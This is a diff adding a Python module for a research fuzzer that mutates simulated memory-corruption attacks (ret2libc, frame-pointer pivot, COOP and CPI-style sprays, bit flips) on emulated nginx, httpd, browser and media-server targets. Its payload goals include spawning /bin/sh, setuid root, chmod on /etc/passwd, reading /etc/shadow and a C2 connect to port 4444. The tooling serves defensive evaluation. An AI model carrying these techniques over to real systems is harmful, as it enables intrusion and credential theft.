@@ -1,0 +1,659 @@
+"""Attack genomes: structured, mutable specs over `repro.attacks.primitives`.
+
+A :class:`Genome` is everything the fuzzer may vary about an attack:
+
+- ``target``       which application binary (the attack-target registry);
+- ``trigger``      which hook point stands in for the memory-corruption
+                   vulnerability (CVE-2013-2028 and friends);
+- ``target_class`` *what* gets corrupted — the ISSUE 9 closed set
+                   {return address, frame pointer, syscall-number slot,
+                   argument register, bound shadow variable,
+                   function-pointer slot};
+- ``primitive``    *how* — a precise overwrite, a counterfeit-object
+                   spray (NEWTON CPI / COOP style), or a single bit flip;
+- ``timing``       which firing of the trigger the corruption lands on;
+- ``chain``        the syscall mix: payload ops (execve/setuid/mprotect/
+                   ...) the attacker tries to reach, each with its own
+                   kernel-evidence success oracle.
+
+Genomes compile to ordinary :class:`repro.attacks.catalog.AttackSpec`s
+(:func:`spec_for_genome`), so the fuzzer runs through the exact Table 6
+harness, and divergences can be replayed as catalog rows forever.
+
+Everything here is deterministic: staging failures (a symbol the
+debloated image dropped, a write into an unmapped page) are caught and
+recorded as notes, never raised — a genome whose corruption cannot even
+be staged simply fizzles, which is itself signal (that is *how* debloat
+blocks attacks).
+"""
+
+from dataclasses import dataclass
+
+from repro.attacks.catalog import AttackSpec
+from repro.attacks.primitives import AttackError
+from repro.attacks.rop import build_ret2libc_chain, launch_ret2libc
+from repro.errors import VMFault
+from repro.vm.memory import WORD
+
+TARGET_CLASSES = (
+    "return_address",
+    "frame_pointer",
+    "syscall_number_slot",
+    "argument_register",
+    "bound_shadow_variable",
+    "function_pointer_slot",
+)
+
+PRIMITIVES = ("overwrite", "spray", "bitflip")
+
+MAX_TIMING = 3
+MAX_CHAIN = 3
+
+#: hook points per target (the vulnerability stand-ins)
+TRIGGERS = {
+    "nginx": (
+        "ngx_request",
+        "ngx_output_chain_icall",
+        "ngx_indexed_variable_entry",
+        "ngx_master_cycle",
+    ),
+    "httpd": ("ap_run_handler",),
+    "browser": ("browser_event",),
+    "mediasrv": ("ms_parse_frame",),
+}
+
+#: corruption classes with a generic applier, valid at every trigger
+GENERIC_CLASSES = ("return_address", "frame_pointer")
+
+#: site-specific corruption classes per (target, trigger)
+SITE_CLASSES = {
+    ("nginx", "ngx_request"): ("argument_register",),
+    ("nginx", "ngx_output_chain_icall"): (
+        "function_pointer_slot",
+        "syscall_number_slot",
+    ),
+    ("nginx", "ngx_indexed_variable_entry"): (
+        "function_pointer_slot",
+        "argument_register",
+    ),
+    ("nginx", "ngx_master_cycle"): ("bound_shadow_variable",),
+    ("httpd", "ap_run_handler"): (
+        "function_pointer_slot",
+        "syscall_number_slot",
+        "argument_register",
+    ),
+    ("browser", "browser_event"): ("function_pointer_slot",),
+    ("mediasrv", "ms_parse_frame"): (
+        "function_pointer_slot",
+        "syscall_number_slot",
+        "bound_shadow_variable",
+    ),
+}
+
+#: (target, trigger, class) triples where a counterfeit-object spray is a
+#: genuinely different corruption than a precise overwrite
+SPRAY_SITES = {
+    ("nginx", "ngx_indexed_variable_entry", "function_pointer_slot"),
+    ("nginx", "ngx_indexed_variable_entry", "argument_register"),
+    ("httpd", "ap_run_handler", "function_pointer_slot"),
+    ("browser", "browser_event", "function_pointer_slot"),
+}
+
+
+def classes_for(target, trigger):
+    return GENERIC_CLASSES + SITE_CLASSES.get((target, trigger), ())
+
+
+# ---------------------------------------------------------------------------
+# Payload ops: the syscall mix
+# ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class PayloadOp:
+    """One attacker goal: a libc wrapper to reach, its arguments, and the
+    kernel-evidence oracle that says the goal was reached."""
+
+    name: str
+    func: str
+    targets: tuple
+    build_args: object  # (env) -> 3-tuple
+    check: object  # (env) -> bool
+    needs_fs_extension: bool = False
+
+
+def _pool_addr(env):
+    """A live RW mapping: nginx's first pool, mediasrv's frame pool."""
+    for name in ("g_pools", "g_frame_pool"):
+        try:
+            return env.read(env.global_addr(name))
+        except AttackError:
+            continue
+    raise AttackError("no known pool global in target")
+
+
+PAYLOAD_OPS = {}
+
+
+def _op(**kwargs):
+    op = PayloadOp(**kwargs)
+    PAYLOAD_OPS[op.name] = op
+    return op
+
+
+_ALL = ("nginx", "httpd", "browser", "mediasrv")
+
+_op(
+    name="exec_shell",
+    func="execve",
+    targets=_ALL,
+    build_args=lambda env: (env.plant_string("/bin/sh"), 0, 0),
+    check=lambda env: env.executed("/bin/sh"),
+)
+_op(
+    name="setuid_root",
+    func="setuid",
+    targets=_ALL,
+    build_args=lambda env: (0, 0, 0),
+    check=lambda env: env.setuid_attempted(0),
+)
+_op(
+    name="chmod_passwd",
+    func="chmod",
+    targets=_ALL,
+    build_args=lambda env: (env.plant_string("/etc/passwd"), 0o777, 0),
+    check=lambda env: env.chmod_attempted("/etc/passwd"),
+)
+_op(
+    name="mprotect_pool",
+    func="mprotect",
+    targets=("nginx", "mediasrv"),
+    build_args=lambda env: (_pool_addr(env), 4096, 7),
+    check=lambda env: env.made_memory_executable(),
+)
+_op(
+    name="connect_c2",
+    func="connect",
+    targets=_ALL,
+    build_args=lambda env: (3, env.plant_words([2, 4444, 0x7F000001]), 16),
+    check=lambda env: env.connected_to(4444),
+)
+_op(
+    name="mremap_pool",
+    func="mremap",
+    targets=("nginx", "mediasrv"),
+    build_args=lambda env: (_pool_addr(env), 4096, 1 << 20),
+    check=lambda env: env.mremap_attempted(),
+)
+_op(
+    name="open_shadow",
+    func="open",
+    targets=("nginx",),
+    build_args=lambda env: (env.plant_string("/etc/shadow"), 0, 0),
+    check=lambda env: env.opened("/etc/shadow"),
+    needs_fs_extension=True,
+)
+
+
+def ops_for(target):
+    """Payload op names valid for ``target`` (sorted, deterministic)."""
+    return tuple(
+        name for name in sorted(PAYLOAD_OPS) if target in PAYLOAD_OPS[name].targets
+    )
+
+
+# ---------------------------------------------------------------------------
+# The genome
+# ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Genome:
+    target: str
+    trigger: str
+    target_class: str
+    primitive: str
+    timing: int
+    chain: tuple  # payload op names, head op drives single-shot sites
+
+    def key(self):
+        return (
+            self.target,
+            self.trigger,
+            self.target_class,
+            self.primitive,
+            self.timing,
+            self.chain,
+        )
+
+    def to_dict(self):
+        return {
+            "target": self.target,
+            "trigger": self.trigger,
+            "target_class": self.target_class,
+            "primitive": self.primitive,
+            "timing": self.timing,
+            "chain": list(self.chain),
+        }
+
+
+def genome_from_dict(data):
+    return repair(
+        Genome(
+            target=data["target"],
+            trigger=data["trigger"],
+            target_class=data["target_class"],
+            primitive=data["primitive"],
+            timing=int(data["timing"]),
+            chain=tuple(data["chain"]),
+        )
+    )
+
+
+def repair(genome):
+    """Clamp a (possibly mutated) genome back onto the valid domain.
+
+    Deterministic: invalid field values snap to the first valid choice,
+    never to a random one, so mutation + repair is a pure function.
+    """
+    target = genome.target if genome.target in TRIGGERS else "nginx"
+    triggers = TRIGGERS[target]
+    trigger = genome.trigger if genome.trigger in triggers else triggers[0]
+    classes = classes_for(target, trigger)
+    target_class = (
+        genome.target_class if genome.target_class in classes else classes[0]
+    )
+    primitive = genome.primitive if genome.primitive in PRIMITIVES else "overwrite"
+    if primitive == "spray" and (target, trigger, target_class) not in SPRAY_SITES:
+        primitive = "overwrite"
+    timing = min(max(int(genome.timing), 1), MAX_TIMING)
+    valid_ops = ops_for(target)
+    chain = tuple(op for op in genome.chain if op in valid_ops)[:MAX_CHAIN]
+    if not chain:
+        chain = ("exec_shell",)
+    return Genome(
+        target=target,
+        trigger=trigger,
+        target_class=target_class,
+        primitive=primitive,
+        timing=timing,
+        chain=chain,
+    )
+
+
+def seed_genomes():
+    """The deterministic starting corpus: one canonical genome per
+    site-specific corruption class plus the generic ROP/pivot entries."""
+    seeds = []
+    for target in sorted(TRIGGERS):
+        for trigger in TRIGGERS[target]:
+            for cls in classes_for(target, trigger):
+                seeds.append(
+                    repair(
+                        Genome(
+                            target=target,
+                            trigger=trigger,
+                            target_class=cls,
+                            primitive="overwrite",
+                            timing=1,
+                            chain=("exec_shell",),
+                        )
+                    )
+                )
+    return seeds
+
+
+# ---------------------------------------------------------------------------
+# Mutators: point / havoc / splice
+# ---------------------------------------------------------------------------
+
+_FIELDS = ("target", "trigger", "target_class", "primitive", "timing", "chain")
+
+
+def _mutate_field(genome, fieldname, rng):
+    values = genome.to_dict()
+    if fieldname == "target":
+        values["target"] = rng.choice(sorted(TRIGGERS))
+    elif fieldname == "trigger":
+        values["trigger"] = rng.choice(TRIGGERS[genome.target])
+    elif fieldname == "target_class":
+        values["target_class"] = rng.choice(
+            classes_for(genome.target, genome.trigger)
+        )
+    elif fieldname == "primitive":
+        values["primitive"] = rng.choice(PRIMITIVES)
+    elif fieldname == "timing":
+        values["timing"] = 1 + rng.randint(MAX_TIMING)
+    else:
+        ops = ops_for(genome.target)
+        chain = list(genome.chain)
+        roll = rng.randint(3)
+        if roll == 0 and len(chain) < MAX_CHAIN:
+            chain.insert(rng.randint(len(chain) + 1), rng.choice(ops))
+        elif roll == 1 and len(chain) > 1:
+            chain.pop(rng.randint(len(chain)))
+        else:
+            chain[rng.randint(len(chain))] = rng.choice(ops)
+        values["chain"] = chain
+    return genome_from_dict(values)
+
+
+def point_mutate(genome, rng):
+    """Reroll exactly one field."""
+    return _mutate_field(genome, rng.choice(_FIELDS), rng)
+
+
+def havoc_mutate(genome, rng):
+    """A burst of 2-4 point mutations."""
+    for _ in range(2 + rng.randint(3)):
+        genome = _mutate_field(genome, rng.choice(_FIELDS), rng)
+    return genome
+
+
+def splice_mutate(first, second, rng):
+    """Crossover: the corruption site from one parent, the delivery
+    (primitive/timing/chain) from the other."""
+    return repair(
+        Genome(
+            target=first.target,
+            trigger=first.trigger,
+            target_class=first.target_class,
+            primitive=second.primitive,
+            timing=second.timing,
+            chain=second.chain,
+        )
+    )
+
+
+def mutate(genome, rng, mate=None):
+    roll = rng.randint(4)
+    if roll == 0 and mate is not None:
+        return splice_mutate(genome, mate, rng)
+    if roll == 1:
+        return havoc_mutate(genome, rng)
+    return point_mutate(genome, rng)
+
+
+# ---------------------------------------------------------------------------
+# Corruption appliers: genome -> concrete memory writes at the trigger
+# ---------------------------------------------------------------------------
+
+
+def _chain_calls(env, genome):
+    calls = []
+    for name in genome.chain:
+        op = PAYLOAD_OPS[name]
+        calls.append((op.func, op.build_args(env)))
+    return calls
+
+
+def _head(env, genome):
+    """The head op resolved: (wrapper entry, 3 args)."""
+    op = PAYLOAD_OPS[genome.chain[0]]
+    return env.func_addr(op.func), op.build_args(env)
+
+
+def _apply_return_address(env, genome):
+    if genome.primitive == "bitflip":
+        slot = env.cpu.fp + WORD
+        env.write(slot, env.read(slot) ^ (1 << 4))
+    else:
+        launch_ret2libc(env, _chain_calls(env, genome))
+
+
+def _apply_frame_pointer(env, genome):
+    if genome.primitive == "bitflip":
+        env.write(env.cpu.fp, env.read(env.cpu.fp) ^ (1 << 4))
+    else:
+        # Corrupt only the saved-FP slot: the victim returns normally, but
+        # its *caller* now runs on a counterfeit frame whose return slot
+        # launches the chain one epilogue later.
+        target, frame = build_ret2libc_chain(env, _chain_calls(env, genome))
+        pivot = env.fake_frame([], saved_fp=frame, return_addr=target)
+        env.write(env.cpu.fp, pivot)
+
+
+def _apply_ngx_output_chain(env, genome):
+    func, args = _head(env, genome)
+    env.write(env.current_local_addr("flt"), func)
+    if genome.target_class == "syscall_number_slot":
+        # swap only *which* wrapper the already-loaded pointer dispatches;
+        # fctx/in_ keep the program's own argument values (pure call-type
+        # violation, no argument grooming)
+        return
+    if genome.primitive == "bitflip":
+        env.write(env.current_local_addr("flt"), func ^ (1 << 2))
+        return
+    env.write(env.current_local_addr("fctx"), args[0])
+    env.write(env.current_local_addr("in_"), args[1])
+    wrapper_fp = env.cpu.sp - 2 * WORD
+    env.write(wrapper_fp - 3 * WORD, args[2])
+
+
+def _apply_ngx_indexed(env, genome):
+    vars_base = env.global_addr("g_http_vars")
+    if genome.target_class == "function_pointer_slot":
+        func, args = _head(env, genome)
+        if genome.primitive == "bitflip":
+            env.write(vars_base, env.read(vars_base) ^ (1 << 2))
+            env.write(env.current_local_addr("index"), 0)
+            return
+        if genome.primitive == "spray":
+            # NEWTON CPI style: counterfeit entry on an exact stride
+            stride = 3 * WORD
+            k = (env._scratch_next - vars_base) // stride + 1
+            entry = vars_base + k * stride
+            env.write(entry, func)
+            env.write(entry + WORD, args[2])  # v[k].data -> third arg
+            env.write(entry + 2 * WORD, 0)
+            env._scratch_next = entry + 4 * WORD
+            env.write(env.current_local_addr("index"), k)
+        else:
+            env.write(vars_base, func)
+            env.write(vars_base + WORD, args[2])
+            env.write(env.current_local_addr("index"), 0)
+        env.write(env.current_local_addr("r"), args[0])
+    else:  # argument_register: never touch a code pointer
+        if genome.primitive == "bitflip":
+            addr = env.current_local_addr("index")
+            env.write(addr, env.read(addr) ^ 1)
+            return
+        _func, args = _head(env, genome)
+        env.write(env.current_local_addr("r"), args[0])
+        if genome.primitive == "spray":
+            # out-of-bounds index into sprayed-but-legit-typed entries
+            env.write(env.current_local_addr("index"), 1)
+
+
+def _apply_ngx_master(env, genome):
+    flag = env.global_addr("g_upgrade_flag")
+    if genome.primitive == "bitflip":
+        env.write(flag, env.read(flag) ^ 1)
+        return
+    # AOCR Attack 2 generalized: flip the flag, swap the bound exec-context
+    # path for the head op's path-like first argument
+    _func, args = _head(env, genome)
+    env.write(flag, 1)
+    path_slot = env.global_addr("g_exec_ctx") + env.struct_offset(
+        "ngx_exec_ctx_t", "path"
+    )
+    env.write(path_slot, args[0])
+
+
+def _apply_ngx_request_args(env, genome):
+    if genome.primitive == "bitflip":
+        addr = env.current_local_addr("n")
+        env.write(addr, env.read(addr) ^ (1 << 12))
+        return
+    _func, args = _head(env, genome)
+    env.write(env.current_local_addr("n"), args[2] or (1 << 12))
+
+
+def _apply_ap_run_handler(env, genome):
+    table = env.global_addr("g_handlers")
+    func, args = _head(env, genome)
+    if genome.target_class == "syscall_number_slot":
+        env.write(table, func)  # args stay the program's own
+        return
+    if genome.target_class == "argument_register":
+        if genome.primitive == "bitflip":
+            addr = env.current_local_addr("n")
+            env.write(addr, env.read(addr) ^ (1 << 2))
+            return
+        env.write(env.current_local_addr("r"), args[0])
+        env.write(env.current_local_addr("n"), args[2])
+        return
+    if genome.primitive == "bitflip":
+        env.write(table, env.read(table) ^ (1 << 2))
+        return
+    if genome.primitive == "spray":
+        slot = table + WORD
+        env.write(slot, func)
+        env.write(env.current_local_addr("idx"), 1)
+    else:
+        env.write(table, func)
+    env.write(env.current_local_addr("r"), args[0])
+    env.write(env.current_local_addr("n"), args[2])
+
+
+def _apply_browser_event(env, genome):
+    if genome.primitive == "bitflip":
+        doc = env.global_addr("g_document")
+        env.write(doc, env.read(doc) ^ (1 << 2))
+        return
+    head = PAYLOAD_OPS[genome.chain[0]]
+    if head.func == "execve":
+        # COOP: counterfeit object, vptr into a legit vtable off by one
+        # slot, so the benign render dispatch becomes renderer_spawn(path)
+        sh = env.plant_string("/bin/sh")
+        vt = env.global_addr("g_vt_document")
+        counterfeit = env.plant_words([vt + WORD, sh, 0])
+    else:
+        # counterfeit vtable pointing straight at the wrapper: the virtual
+        # dispatch passes the object itself as the only argument
+        func, _args = _head(env, genome)
+        fake_vt = env.plant_words([func, func])
+        counterfeit = env.plant_words([fake_vt, 0, 0])
+    env.write(env.current_local_addr("obj"), counterfeit)
+
+
+def _apply_ms_parse_frame(env, genome):
+    buf = env.global_addr("g_parse_buf")
+    handler = env.global_addr("g_handler")
+    if buf + 64 * WORD != handler:
+        raise AttackError("layout changed: overflow no longer adjacent")
+    off = lambda fieldname: env.struct_offset("frame_handler_t", fieldname)  # noqa: E731
+    func, args = _head(env, genome)
+    if genome.target_class == "bound_shadow_variable":
+        # corrupt only the AI-bound argument fields; the legitimate
+        # on_frame callback runs with attacker values
+        if genome.primitive == "bitflip":
+            slot = handler + off("arg1")
+            env.write(slot, env.read(slot) ^ (1 << 8))
+            return
+        env.write(handler + off("arg0"), args[0])
+        env.write(handler + off("arg1"), args[1])
+        env.write(handler + off("arg2"), args[2])
+        return
+    if genome.primitive == "bitflip":
+        slot = handler + off("on_frame")
+        env.write(slot, env.read(slot) ^ (1 << 2))
+        return
+    env.write(handler + off("on_frame"), func)
+    if genome.target_class == "syscall_number_slot":
+        return  # wrapper swapped, bound args left legitimate
+    env.write(handler + off("arg0"), args[0])
+    env.write(handler + off("arg1"), args[1])
+    env.write(handler + off("arg2"), args[2])
+
+
+_SITE_APPLIERS = {
+    ("nginx", "ngx_output_chain_icall"): _apply_ngx_output_chain,
+    ("nginx", "ngx_indexed_variable_entry"): _apply_ngx_indexed,
+    ("nginx", "ngx_master_cycle"): _apply_ngx_master,
+    ("nginx", "ngx_request"): _apply_ngx_request_args,
+    ("httpd", "ap_run_handler"): _apply_ap_run_handler,
+    ("browser", "browser_event"): _apply_browser_event,
+    ("mediasrv", "ms_parse_frame"): _apply_ms_parse_frame,
+}
+
+
+def apply_corruption(env, genome):
+    if genome.target_class == "return_address":
+        _apply_return_address(env, genome)
+    elif genome.target_class == "frame_pointer":
+        _apply_frame_pointer(env, genome)
+    else:
+        _SITE_APPLIERS[(genome.target, genome.trigger)](env, genome)
+
+
+# ---------------------------------------------------------------------------
+# Genome -> AttackSpec
+# ---------------------------------------------------------------------------
+
+
+def genome_name(genome):
+    return "fz_%s_%s_%s_t%d_%s" % (
+        genome.target,
+        genome.target_class,
+        genome.primitive,
+        genome.timing,
+        "-".join(genome.chain),
+    )
+
+
+def _make_stage(genome):
+    def stage(env):
+        state = {"count": 0}
+
+        def trampoline(cpu):
+            state["count"] += 1
+            if state["count"] != genome.timing:
+                return
+            try:
+                apply_corruption(env, genome)
+            except (AttackError, VMFault) as exc:
+                # staging itself failed (symbol debloated away, scratch
+                # page unmapped, ...) — the genome fizzles, on record
+                env.notes.append("staging failed: %s" % exc)
+
+        env.cpu.hooks[genome.trigger] = trampoline
+
+    return stage
+
+
+def _make_oracle(genome):
+    ops = [PAYLOAD_OPS[name] for name in genome.chain]
+
+    def oracle(env):
+        return any(op.check(env) for op in ops)
+
+    return oracle
+
+
+def spec_for_genome(genome, name=None):
+    """Compile a genome into a catalog-compatible :class:`AttackSpec`."""
+    genome = repair(genome)
+    return AttackSpec(
+        name=name or genome_name(genome),
+        category="Fuzz-discovered divergence",
+        target=genome.target,
+        description=(
+            "fuzz genome: %s via %s at %s (timing %d), chain %s"
+            % (
+                genome.target_class,
+                genome.primitive,
+                genome.trigger,
+                genome.timing,
+                "+".join(genome.chain),
+            )
+        ),
+        expected={},
+        stage=_make_stage(genome),
+        oracle=_make_oracle(genome),
+        needs_fs_extension=any(
+            PAYLOAD_OPS[op].needs_fs_extension for op in genome.chain
+        ),
+        extra=True,
+        refs="repro.fuzz",
+    )
